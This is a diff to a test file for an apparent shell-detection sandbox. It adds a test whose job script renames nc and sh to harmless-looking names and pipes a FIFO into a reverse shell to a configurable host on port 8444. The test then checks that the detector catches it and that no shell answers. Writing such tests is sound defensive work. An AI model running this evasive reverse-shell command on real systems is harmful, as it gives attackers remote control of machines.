@@ -117,6 +117,21 @@ cat /tmp/p | sh -i 2>&1 | /tmp/sync ${SINK} 8444 >/tmp/p
   assert.ok(!heard.stdout.includes(SHELL_ANSWER), `no shell answered: ${heard.stdout.slice(0, 400)}`);
 });
 
+test('the shell renamed too (cat FIFO | renamed sh | renamed nc): the stdio rule knows it by its identity', async () => {
+  const l = listener(8444);
+  await new Promise((r) => setTimeout(r, 300));
+  const job = `cp "$(readlink -f /usr/bin/nc)" /tmp/sync; cp "$(readlink -f /bin/sh)" /tmp/indexer
+rm -f /tmp/p; mkfifo /tmp/p
+cat /tmp/p | /tmp/indexer -i 2>&1 | /tmp/sync ${SINK} 8444 >/tmp/p
+`;
+  const c = await h.run('rs-fifo-renamed-sh', ['sh', 'job.sh'], { files: { 'job.sh': job }, flags: ['--timeout', '20'] });
+  const a = assertContained(c, /Shell or interpreter looped to a remote host through pipes|Shell stdio reaches the network/);
+  const stdio = c.rep.events.find((e) => (a.evidence as string[]).includes(e.id) && e.kind === 'process.stdio');
+  assert.ok(stdio && ['dash', 'sh', 'bash'].includes(String(stdio.tool)), `the wired process is known as a shell: ${JSON.stringify(stdio)}`);
+  const heard = await l;
+  assert.ok(!heard.stdout.includes(SHELL_ANSWER), `no shell answered: ${heard.stdout.slice(0, 400)}`);
+});
+
 test('control: the same FIFO + renamed nc shell answers the listener when praetor does not detect', async () => {
   // Proves the case above can fail: with detection off, this exact wiring is a working shell.
   const l = listener(8444);
